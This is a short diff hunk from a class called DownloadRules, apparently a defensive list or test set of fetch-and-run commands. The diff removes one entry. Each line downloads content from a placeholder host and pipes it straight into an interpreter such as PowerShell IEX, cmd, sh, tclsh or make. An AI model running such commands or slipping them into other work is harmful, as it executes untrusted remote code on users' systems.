@@ -203,7 +203,6 @@ final class DownloadRules {
                   "IEX (New-Object Net.WebClient).DownloadString('http://h.example/a')",
                   "curl.exe -s http://h.example/a | cmd",
                   "curl https://h.example/i | docker run -i --rm alpine sh",
-                  "curl https://h.example/i | tclsh",
                   "make -f <(curl https://h.example/m)",
                   "ftp -o - http://h.example/i | sh",
                   "iwr https://h.example/x.ps1 -useb | iex")
